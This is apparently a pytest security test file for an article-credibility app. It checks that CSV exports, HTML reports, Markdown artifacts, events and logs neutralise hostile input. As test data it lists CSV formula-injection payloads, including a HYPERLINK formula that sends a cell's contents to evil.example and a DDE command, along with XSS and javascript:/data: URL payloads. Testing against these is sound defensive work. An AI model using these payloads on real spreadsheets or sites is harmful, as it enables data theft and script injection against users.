"""Security review of every output, as properties over hostile article text, titles and URLs.

- the reviewer CSV: no cell a spreadsheet would run as a formula (formula prefixes, tab, CR, LF,
  cells that become formulas after a leading quote or space, full-width forms), and every cell
  reads back as written;
- the HTML report: no script but the report's own (hashed in the CSP), no event-handler
  attribute, no ``javascript:``/``data:``/``vbscript:`` link, a strict Content-Security-Policy;
- Prefect artifacts: untrusted text is inert Markdown on one table cell (no link, image, HTML or
  table breakout);
- Prefect events: ids, labels and counts, never article text;
- log lines at the default levels: no article text, no password written in a URL.
"""

from __future__ import annotations

import csv
import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import lxml.html
import pytest
from fakes import FakeEmbedder
from fuzzing import target, texts
from hypothesis import given
from hypothesis import strategies as st
from webfixtures import LocalServer, article_html

from credibility.app import Home, sample_paths
from credibility.model.result import ArticleCheck
from credibility.reports.html import render_report
from credibility.reviewer_rows import CSV_COLUMNS, neutralise, unneutralise
from credibility.settings import Settings

HOSTILE = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "'=1+1",
        "''=1+1",
        "\uff1d1+1",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "javascript:alert(1)",
        "[click](javascript:alert(1))",
        "![x](http://evil.example/pixel.png)",
        "| a | b |\n|---|---|",
        "<http://evil.example>",
        "`code` ``",
        "# heading",
        "\x00\x1b[31m red",
    ]
)
hostile_text = st.lists(st.one_of(HOSTILE, texts), min_size=1, max_size=4).map(" ".join)


@given(st.one_of(HOSTILE, texts, hostile_text))
@target("security: CSV cells")
def test_csv_cells_are_never_formulas_and_read_back(value: str) -> None:
    cell = neutralise(value)
    assert unneutralise(cell) == value
    stripped = re.sub(r"^[\s\u200b\u200c\u200d\u2060\ufeff]+", "", cell)
    if stripped[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20") or cell.startswith(
        ("\t", "\r", "\n")
    ):
        assert re.fullmatch(r"-\d+(\.\d+)?", cell), cell


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    app = Home(
        Settings(home=tmp_path_factory.mktemp("security"), model="fake-model"), embedder=FakeEmbedder()
    )  # type: ignore[arg-type]
    paths = sample_paths()
    app.ingest([str(paths["articles"])])
    app.ingest([str(paths["factchecks"])], kind="factcheck")
    yield app
    app.close()


def _hostile_check(home: Home, parts: list[str], title: str, url: str) -> ArticleCheck:
    repost = sample_paths()["repost"].read_text(encoding="utf-8")
    text = repost + "\n\n" + "\n\n".join(p + " More words so it is a sentence." for p in parts)
    return home.check(text, title=title, url=url).check


def _assert_safe_html(page: str, check: ArticleCheck) -> None:
    root = lxml.html.document_fromstring(page)
    scripts = root.xpath("//script")
    assert len(scripts) == 1, "a script besides the report's own"
    csp = root.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert csp and "default-src 'none'" in csp[0] and re.search(r"script-src 'sha256-[^' ]+'(;|$)", csp[0])
    assert "unsafe-inline" not in csp[0]
    for element in root.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href"):
                assert value.startswith(("#", "http://", "https://")) or value == "data:,", (name, value)
    for svg in ("svg", "img", "iframe", "object", "embed", "form"):
        assert not root.xpath(f"//body//{svg}"), svg


@given(
    st.lists(hostile_text, min_size=1, max_size=3),
    hostile_text,
    st.sampled_from(
        [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox",
            'https://ok.example/a" onmouseover="alert(1)',
            "https://news.example/a",
        ]
    ),
)
@target("security: HTML report and CSV of hostile checks")
def test_reports_of_hostile_articles(
    home: Home, tmp_path_factory: pytest.TempPathFactory, parts: list[str], title: str, url: str
) -> None:
    check = _hostile_check(home, parts, title, url)
    _assert_safe_html(render_report([check]), check)
    path = tmp_path_factory.mktemp("csv") / "review.csv"
    home.export_csv([check], path, include_all=True)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(CSV_COLUMNS)
    for row in rows[1:]:
        assert len(row) == len(CSV_COLUMNS)
        for cell in row:
            stripped = re.sub(r"^[\s\u200b\u200c\u200d\u2060\ufeff]+", "", cell)
            if (stripped[:1] and stripped[:1] in "=+-@\uff1d\uff0b\uff0d\uff20") or cell.startswith(
                ("\t", "\r", "\n")
            ):
                assert re.fullmatch(r"-\d+(\.\d+)?", cell), cell
        sentence = unneutralise(row[CSV_COLUMNS.index("sentence")])
        assert sentence in check.text


@given(st.lists(hostile_text, min_size=1, max_size=3), hostile_text)
@target("security: Prefect artifacts and events")
def test_artifacts_are_inert_and_events_carry_no_text(
    home: Home, monkeypatch_module: pytest.MonkeyPatch, parts: list[str], title: str
) -> None:
    from flows import events
    from flows.artifacts import check_markdown, md
    from flows.models import CheckOutcome

    check = _hostile_check(home, parts, title, "https://news.example/a")
    outcome = CheckOutcome.from_check("key", check)
    markdown = check_markdown(outcome)
    for line in markdown.splitlines():
        assert "<" not in line.replace("&lt;", ""), line
        assert not re.search(r"(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)<http", line), line
        if line.startswith("|"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 6, line  # 5 columns, no breakout
    assert "\n" not in md("a\nb\r\nc")
    sent: list[dict[str, object]] = []
    monkeypatch_module.setattr(events, "emit_event", lambda **kwargs: sent.append(kwargs))
    events.emit_flagged(outcome, source_flow="check-article")
    if outcome.flagged:
        payload = json.dumps(sent[-1]["payload"])
        for sentence in outcome.flagged:
            if len(sentence.text) > 12:
                assert json.dumps(sentence.text)[1:-1] not in payload


@pytest.fixture(scope="module")
def monkeypatch_module() -> Iterator[pytest.MonkeyPatch]:
    with pytest.MonkeyPatch.context() as patch:
        yield patch


def test_log_lines_hold_no_article_text_and_no_password(
    home: Home, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    secret_sentence = "The harbour commission secretly approved 417 new cranes on Tuesday."
    with LocalServer() as server:
        server.add("/a.html", article_html("Cranes", [secret_sentence, "A second sentence of the page."]))
        server.add("/down", b"", status=503)
        settings = Settings(
            home=tmp_path / "h",
            model="fake-model",
            allow_networks=("127.0.0.0/8",),
            fetch_retries=1,
            fetch_backoff=0.0,
            fetch_politeness_delay=0.0,
            respect_robots=False,
        )
        credentials = f"http://reviewer:hunter2@127.0.0.1:{server.port}"
        with caplog.at_level(logging.INFO), Home(settings, embedder=FakeEmbedder()) as app:  # type: ignore[arg-type]
            report = app.ingest([f"{credentials}/a.html", f"{credentials}/down", f"{credentials}/missing"])
            app.check(secret_sentence + " Another one.", title="t", url=f"{credentials}/a.html")
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "hunter2" not in logged
    assert "hunter2" not in json.dumps([[p.origin, p.message] for p in report.problems])
    assert secret_sentence not in logged
    assert report.problems, "the failing URLs are reported"
